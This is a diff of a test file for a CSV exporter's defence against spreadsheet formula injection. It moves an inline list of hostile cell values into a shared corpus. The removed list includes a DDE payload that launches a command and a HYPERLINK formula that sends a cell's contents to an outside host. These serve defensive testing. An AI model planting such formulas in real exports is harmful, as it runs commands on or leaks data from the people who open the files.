@@ -1,5 +1,6 @@
 import Papa from "papaparse";
 import { expect, test } from "vitest";
+import { FORMULAS } from "@/server/testing/formula-corpus";
 import { CSV_HEADER, toCsv } from "./csv";
 import { inert } from "./formula";
 import type { ExportedEvent } from "./read-page";
@@ -21,35 +22,6 @@ const parse = (csv: string) =>
 const location = (text: string) => parse(CSV_HEADER + toCsv([withText(text)]))[0]?.["location"] ?? "";
 const original = (cell: string) => (cell.startsWith("'") && inert(cell.slice(1)) === cell ? cell.slice(1) : cell);
 
-const hostile = [
-  "=cmd|' /C calc'!A0",
-  "+1+1",
-  "-2+3",
-  "@SUM(1)",
-  "\t=1",
-  "\r=1",
-  "\n=1",
-  "\tharmless",
-  "＝1+1",
-  "＋1",
-  "－1",
-  "＠A1",
-  " =1",
-  "\u00a0=1",
-  "\u3000=1",
-  "\ufeff=1",
-  "\u200b=1",
-  "\u200e\u2060=1",
-  "\u00ad-1+1",
-  "\u0001=1",
-  "\u115f=1",
-  "=1\nsecond line",
-  '=HYPERLINK("https://example.com?x="&A1,"click")',
-  "-",
-  "+49 151 1234",
-  "'=1",
-  "''=1",
-];
 const harmless = [
   "",
   "plain",
@@ -72,7 +44,7 @@ const harmless = [
 ];
 
 test("a cell that a spreadsheet could run as a formula is inert, and without its prefix the original", () => {
-  for (const text of hostile) {
+  for (const text of FORMULAS) {
     const cell = location(text);
     expect(cell, JSON.stringify(text)).toBe(`'${text}`);
     expect(original(cell)).toBe(text);
